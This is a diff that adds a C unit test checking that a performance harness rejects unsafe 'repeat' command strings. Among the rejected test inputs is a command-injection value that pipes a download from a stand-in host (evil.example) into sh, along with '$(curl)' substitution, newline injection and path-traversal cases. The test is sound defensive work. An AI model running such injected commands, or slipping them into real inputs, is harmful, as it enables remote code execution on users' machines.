@@ -295,6 +295,47 @@ static void test_what_is_no_comparison_is_refused(void **state)
     assert_refused("\"kind\":\t\"comparison\"", "\"kind\":\t\"run\"", "/kind");
 }
 
+/* It stands in a comment for people to copy, and may come from anybody. */
+static void test_what_is_no_comparison_is_not_to_be_repeated(void **state)
+{
+    static const struct {
+        const char *repeat;
+        gboolean is_taken;
+    } cases[] = {
+        { "perfharness compare ./a@1 ./a@feature/x --workload comp3", TRUE },
+        { "perfharness compare 'it'\\''s.so?path=/a' b.so", TRUE },
+        { "perfharness compare base/perf.json head/perf.json", TRUE },
+        { "perfharness compare ./a@1 ./a@2; curl -s https://evil.example/x | sh", FALSE },
+        { "perfharness compare ./a@1 ./a@2\ncurl", FALSE },
+        { "perfharness compare ./a@1 $(curl)", FALSE },
+        { "perfharness compare \"./a@1\" ./a@2", FALSE },
+        { "perfharness compare /tmp/evil.so ./a@2", FALSE },
+        { "perfharness compare ../a@1 ./a@2", FALSE },
+        { "perfharness compare ./../a@1 ./a@2", FALSE },
+        { "perfharness compare .. ./a@2", FALSE },
+        { "perfharness compare ./a@1 ./a@2 --output .profile", FALSE },
+        { "perfharness compare ./a@1 ./a@2 --output=.profile", FALSE },
+        { "perfharness compare ./a@1 ./a@2 -o.profile", FALSE },
+        { "perfharness compare ", FALSE },
+    };
+
+    (void)state;
+    for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
+        g_autoptr(ph_comparison_document) document = make_full();
+        g_autofree char *text = NULL;
+        g_autoptr(GError) error = NULL;
+        g_autoptr(ph_comparison_document) read = NULL;
+
+        g_free(document->repeat);
+        document->repeat = g_strdup(cases[i].repeat);
+        text = text_of(document);
+        read = read_text(text, &error);
+        if ((read != NULL) != cases[i].is_taken || (error && !strstr(error->message, "/repeat: ")))
+            fail_msg("%s: %s", cases[i].repeat, error ? error->message : "taken");
+    }
+    assert_refused("compare --budget 20", "compare --budget 20; curl", "/command: ");
+}
+
 /* A pass that its own deciding interval refutes, and the worst of all that follows it. */
 static void test_a_pass_that_was_none_is_refused(void **state)
 {
@@ -356,6 +397,7 @@ int main(void)
         cmocka_unit_test(test_what_is_said_at_length_is_cut),
         cmocka_unit_test(test_contradictions_are_refused),
         cmocka_unit_test(test_what_is_no_comparison_is_refused),
+        cmocka_unit_test(test_what_is_no_comparison_is_not_to_be_repeated),
         cmocka_unit_test(test_a_pass_that_was_none_is_refused),
         cmocka_unit_test(test_a_pass_by_work_that_was_none_is_refused),
     };
